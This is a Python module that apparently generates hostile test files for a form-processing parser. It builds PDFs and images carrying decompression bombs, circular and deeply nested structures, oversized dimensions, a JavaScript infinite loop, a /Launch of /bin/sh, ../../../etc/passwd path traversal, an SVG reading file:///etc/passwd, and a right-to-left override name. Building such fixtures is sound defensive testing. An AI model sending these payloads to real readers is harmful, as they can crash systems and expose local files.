"""PDFs and pictures made to hurt whoever reads them: small to send, large to open."""

from __future__ import annotations

import struct
import zlib
from collections.abc import Sequence
from functools import cache

MARK = b"ceframework-form exemption 1 VAR-2026-001"
_MILLION = 1_000_000


# PDF


def pdf(objects: Sequence[bytes], keywords: bytes = MARK, prev: bytes = b"") -> bytes:
    """A PDF of these objects, numbered from 1; the first is the catalogue."""
    out = bytearray(b"%PDF-1.7\n")
    places = []
    information = b"<< /Keywords (" + keywords + b") >>"
    for number, body in enumerate((*objects, information), 1):
        places.append(len(out))
        out += b"%d 0 obj\n%b\nendobj\n" % (number, body)
    start, count = len(out), len(objects) + 2
    out += b"xref\n0 %d\n0000000000 65535 f \n" % count
    out += b"".join(b"%010d 00000 n \n" % place for place in places)
    out += b"trailer << /Size %d /Root 1 0 R /Info %d 0 R %b >>\n" % (count, count - 1, prev)
    out += b"startxref\n%d\n%%%%EOF\n" % start
    return bytes(out)


def _stream(data: bytes, more: bytes = b"") -> bytes:
    small = _squeezed(data)
    head = b"<< /Length %d /Filter /FlateDecode %b >>" % (len(small), more)
    return head + b"\nstream\n" + small + b"\nendstream"


def _squeezed(data: bytes) -> bytes:
    return zlib.compress(data, 9)


def _bomb(megabytes: int, part: bytes = b" ") -> bytes:
    """So many megabytes of the same, squeezed into a thousandth."""
    squeeze = zlib.compressobj(9)
    block = part * (_MILLION // len(part))
    return b"".join(squeeze.compress(block) for _ in range(megabytes)) + squeeze.flush()


_FORM = b"<< /Type /Catalog /Pages 2 0 R /AcroForm << /Fields [4 0 R] >> >>"
_PAGES = b"<< /Type /Pages /Kids [3 0 R] /Count 1 >>"
_PAGE = b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 595 842] /Annots [4 0 R] %b >>"
_FIELD = b"<< /Type /Annot /Subtype /Widget /FT /Tx /T (title) /Rect [0 0 9 9] /P 3 0 R %b >>"


@cache
def forms() -> dict[str, bytes]:
    """PDFs that go in circles, nest, multiply, swell, or want to run something."""
    page, field = _PAGE % b"", _FIELD % b"/V (x)"
    plain = pdf([_FORM, _PAGES, page, field])
    start = plain.rindex(b"xref\n0")
    return {
        "plain": plain,
        "pages in a circle": pdf(
            [_FORM, b"<< /Type /Pages /Kids [2 0 R] /Count 9 >>", page, field]
        ),
        "pages are their own parents": pdf(
            [_FORM, _PAGES.replace(b"/Count", b"/Parent 2 0 R /Count"), page, field]
        ),
        "tables in a circle": pdf([_FORM, _PAGES, page, field], prev=b"/Prev %d" % start),
        "a million pages": pdf(
            [
                _FORM,
                b"<< /Type /Pages /Count 1000000 /Kids [" + b"3 0 R " * _MILLION + b"] >>",
                page,
                field,
            ]
        ),
        "two thousand million pages": pdf(
            [_FORM, _PAGES.replace(b"/Count 1", b"/Count 2147483647"), page, field]
        ),
        "nested arrays": pdf([_FORM, _PAGES, page, _FIELD % (b"/V " + b"[" * 200_000)]),
        "nested dictionaries": pdf([_FORM, _PAGES, page, _FIELD % (b"/DV " + b"<</A " * 100_000)]),
        "a field is its own parent": pdf(
            [_FORM, _PAGES, page, _FIELD % b"/Parent 4 0 R /Kids [4 0 R]"]
        ),
        "a hundred thousand fields": pdf(
            [_FORM, _PAGES, page.replace(b"[4 0 R]", b"[" + b"4 0 R " * 100_000 + b"]"), field]
        ),
        "five hundred long answers": pdf(
            [
                _FORM,
                _PAGES.replace(b"/Count 1", b"/Count 60").replace(b"3 0 R", b"3 0 R " * 60),
                _PAGE.replace(b"4 0 R", b" ".join(b"%d 0 R" % n for n in range(5, 505))) % b"",
                _stream(b"x" * 190_000),
                *(_FIELD.replace(b"title", b"t%d" % n) % b"/V 4 0 R" for n in range(500)),
            ]
        ),
        "a long answer": pdf(
            [_FORM, _PAGES, page, _FIELD % (b"/V (" + b"x" * 5 * _MILLION + b")")]
        ),
        "long keywords": pdf([_FORM, _PAGES, page, field], keywords=b"x" * 5 * _MILLION),
        "a page that swells": pdf(
            [_FORM, _PAGES, _PAGE % b"/Contents 5 0 R", field, _swelling(200, b"0 0 m ")]
        ),
        "a picture that draws itself again and again": pdf(
            [
                _FORM,
                _PAGES,
                _PAGE % b"/Contents 5 0 R /Resources << /XObject << /X 6 0 R >> >>",
                field,
                _stream(b"/X Do " * 9),
                *(_drawing(number) for number in range(6, 30)),
            ]
        ),
        "squeezed twice": pdf([_FORM, _PAGES, page, _FIELD % b"/V 5 0 R", _twice(200)]),
        "squeezed in another way": pdf(
            [
                _FORM,
                _PAGES,
                page,
                _FIELD % b"/V 5 0 R",
                b"<< /Length 2000 /Filter [/RunLengthDecode] >>\nstream\n"
                + b"\x81x" * 1000
                + b"\nendstream",
            ]
        ),
        "an answer that swells": pdf(
            [_FORM, _PAGES, page, _FIELD % b"/V 5 0 R", _swelling(200, b"x")]
        ),
        "runs something": pdf(
            [
                _FORM.replace(b"/Pages", b"/OpenAction 5 0 R /Pages"),
                _PAGES,
                page,
                _FIELD % b"/V (x) /AA << /K 5 0 R /C 5 0 R >>",
                b"<< /S /JavaScript /JS (while(true){app.launchURL\\('http://127.0.0.1:9'\\);}) >>",
            ]
        ),
        "starts a program": pdf(
            [
                _FORM.replace(b"/Pages", b"/OpenAction 5 0 R /Pages"),
                _PAGES,
                page,
                field,
                b"<< /S /Launch /F << /F (/bin/sh) >> >>",
            ]
        ),
        "a name that leads out": pdf(
            [_FORM, _PAGES, page, field],
            keywords=b"ceframework-form exemption 1 ../../../etc/passwd",
        ),
        "a name that turns round": pdf(
            [_FORM, _PAGES, page, field],
            keywords=b"ceframework-form exemption 1 VAR\\342\\200\\256-2026",
        ),
    }


def _drawing(number: int) -> bytes:
    """One that draws the next nine times."""
    more = (
        b"/Type /XObject /Subtype /Form /BBox [0 0 9 9] /Resources << /XObject << /X %d 0 R >> >>"
    )
    return _stream(b"/X Do " * 9, more % (number + 1))


def _twice(megabytes: int) -> bytes:
    small = _squeezed(_bomb(megabytes, b"x"))
    head = b"<< /Length %d /Filter [/FlateDecode /FlateDecode] >>" % len(small)
    return head + b"\nstream\n" + small + b"\nendstream"


def _swelling(megabytes: int, part: bytes) -> bytes:
    small = _bomb(megabytes, part)
    return b"<< /Length %d /Filter /FlateDecode >>\nstream\n%b\nendstream" % (len(small), small)


# Pictures


def png(width: int, height: int, *parts: tuple[bytes, bytes], data: bytes | None = None) -> bytes:
    """A PNG that says it is of this size, with other parts before its `data` (squeezed)."""
    head = struct.pack(">IIBBBBB", width, height, 8, 6, 0, 0, 0)
    rest = _squeezed(b"") if data is None else data
    found = (_part(b"IHDR", head), *(_part(*part) for part in parts), _part(b"IDAT", rest))
    return b"\x89PNG\r\n\x1a\n" + b"".join(found) + _part(b"IEND", b"")


def _part(name: bytes, data: bytes) -> bytes:
    return struct.pack(">I", len(data)) + name + data + struct.pack(">I", zlib.crc32(name + data))


def pictures() -> dict[str, bytes]:
    """Pictures that say they are huge, and some that are."""
    plain = png(4, 4, data=_squeezed((b"\0" + b"\x20\x60\xa0\xff" * 4) * 4))
    jpeg = b"\xff\xd8\xff\xc0\x00\x11\x08\xff\xff\xff\xff\x03\x01\x22\x00\x02\x11\x01\x03\x11\x01"
    text = b"Comment\0\0" + _bomb(200)
    return {
        "plain": plain,
        "ten thousand million dots": png(100_000, 100_000),
        "wider than any": png(2**31 - 1, 1),
        "no width": png(0, 5),
        "forty million dots": png(6_300, 6_300, data=_bomb(160, b"\0")),
        "sixteen million dots": png(4_000, 4_000, data=_bomb(65, b"\0")),
        "a line of dots": png(3_999_999, 1, data=_bomb(17, b"\0")),
        "a column of dots": png(1, 3_999_999, data=_bomb(21, b"\0")),
        "words that swell": png(4, 4, (b"zTXt", text), data=_squeezed(b"\0" * 99)),
        "colours that swell": png(4, 4, (b"iCCP", text), data=_squeezed(b"\0" * 99)),
        "a hundred thousand words": png(4, 4, *((b"tEXt", b"a\0b"),) * 100_000),
        "a million pictures": png(4, 4, (b"acTL", struct.pack(">II", _MILLION, 0))),
        "a JPEG of 65,535 by 65,535": jpeg + b"\xff\xd9",
        "a GIF": b"GIF89a\xff\xff\xff\xff\x80\0\0" + b"\0" * 99,
        "a drawing": b'<svg xmlns="http://www.w3.org/2000/svg"><image href="file:///etc/passwd"/>',
        "a PostScript program": b"%!PS-Adobe-3.0 EPSF-3.0\n%%BoundingBox: 0 0 9 9\n(x) run\n",
    }
